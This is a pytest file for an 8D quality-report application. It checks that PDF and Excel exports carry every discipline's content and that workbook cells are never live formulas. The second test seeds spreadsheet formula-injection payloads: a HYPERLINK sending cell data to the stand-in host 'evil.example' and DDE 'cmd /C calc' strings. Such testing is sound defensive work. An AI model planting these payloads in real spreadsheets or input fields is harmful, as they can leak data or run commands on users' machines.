"""The customer's formats: the VDA 8D and Ford G8D PDF layouts and the Excel workbook of a closed
demo report carry every discipline's content; the workbook's cells are never formulas."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlalchemy import select

from app import method
from app.demo import load_demo
from app.extensions import db
from app.models import Action, Report, Status, User
from app.services import disciplines, reports
from tests.conftest import login

LAYOUTS = ("standard", "vda", "g8d")


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text or "")


def expected_texts(report: Report) -> dict[str, list[str]]:
    """Per discipline: the beginning of every text value and text table cell (what a reader must find)."""
    out: dict[str, list[str]] = {}
    for d in method.DISCIPLINES:
        values = report.discipline(d.code).values or {}
        found = []
        for f in d.fields:
            if f.type == "text" and isinstance(values.get(f.name), str) and values[f.name].strip():
                found.append(values[f.name])
            if f.type == "table":
                for row in values.get(f.name) or []:
                    found += [row[c.name] for c in f.columns if c.type == "text" and isinstance(row.get(c.name), str) and row[c.name].strip()]
        out[d.code] = [squeeze(t)[:40] for t in found]
    return out


def pdf_text(data: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def xlsx_texts(data: bytes) -> dict[str, str]:
    wb = load_workbook(io.BytesIO(data))
    return {ws.title: "".join(squeeze(str(c.value)) for row in ws.iter_rows() for c in row if c.value is not None) for ws in wb.worksheets}


@pytest.fixture
def closed_demo(app, ctx):
    load_demo()
    db.session.commit()
    report = db.session.scalars(select(Report).where(Report.status == Status.closed, Report.outcome == "resolved").order_by(Report.id)).first()
    jana = db.session.scalar(select(User).where(User.email == "jana.weber@volta.example"))
    return report, jana


def test_every_layout_and_the_workbook_carry_every_discipline(app, client, closed_demo):
    report, jana = closed_demo
    wanted = expected_texts(report)
    assert all(wanted[code] for code in ("D0", "D2", "D3", "D4", "D5", "D6", "D7", "D8")), wanted
    actions = db.session.scalars(select(Action.title).where(Action.report_id == report.id)).all()
    assert len(actions) >= 5
    login(client, jana.email, app.config["DEMO_PASSWORD"])
    for layout in LAYOUTS:
        res = client.get(f"/reports/{report.id}/export.pdf?layout={layout}")
        assert res.status_code == 200 and res.mimetype == "application/pdf", layout
        text = squeeze(pdf_text(res.data))
        for code, snippets in wanted.items():
            missing = [s for s in snippets if s not in text]
            assert not missing, f"{layout}: {code} lacks {missing[:3]}"
        assert all(squeeze(t)[:30] in text for t in actions), layout
        assert squeeze(report.number) in text and squeeze(report.oem.name) in text
    assert "VDA" in pdf_text(client.get(f"/reports/{report.id}/export.pdf?layout=vda").data)
    assert "Interim Containment Action" in pdf_text(client.get(f"/reports/{report.id}/export.pdf?layout=g8d").data)
    assert client.get(f"/reports/{report.id}/export.pdf?layout=ppap").status_code == 400

    res = client.get(f"/reports/{report.id}/export.xlsx")
    assert res.status_code == 200 and "attachment" in res.headers["Content-Disposition"]
    sheets = xlsx_texts(res.data)
    assert list(sheets)[:2] == ["Report", "Team"] and {"Actions", "Evidence", "Reviews"} <= set(sheets)
    for code, snippets in wanted.items():
        sheet = next(name for name in sheets if name.startswith(code + " "))
        missing = [s for s in snippets if s not in sheets[sheet]]
        assert not missing, f"xlsx {sheet} lacks {missing[:3]}"
    assert all(squeeze(t)[:30] in sheets["Actions"] for t in actions)
    team = sheets["Team"]
    assert all(squeeze(m.user.name) in team for m in report.team)
    assert squeeze(report.number) in sheets["Report"]


def test_workbook_cells_are_never_formulas(app, parties, client):
    p = parties
    r = reports.create_report(p.sup_eng, {"title": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "oem_id": p.oem.id, "supplier_id": p.supplier.id,
                                           "part_number": "+cmd|' /C calc'!A0"})
    disciplines.save_discipline(p.sup_eng, r, "D2", 0, {"problem_statement": "@SUM(1+1)*cmd|' /C calc'!A0", "trend": "-2+3", "effect_field": "\uff1d1+1"})
    db.session.commit()
    login(client, p.oem_eng)
    res = client.get(f"/reports/{r.id}/export.xlsx")
    assert res.status_code == 200
    with zipfile.ZipFile(io.BytesIO(res.data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml  # no formula anywhere
    wb = load_workbook(io.BytesIO(res.data))
    dangerous = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value[:1] in "=+-@\uff1d"]
    assert {c.value for c in dangerous} >= {'=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"}
    assert all(c.data_type == "s" and c.quotePrefix for c in dangerous)
    stranger = app.test_client()
    login(stranger, p.other_eng)
    assert stranger.get(f"/reports/{r.id}/export.xlsx").status_code == 404
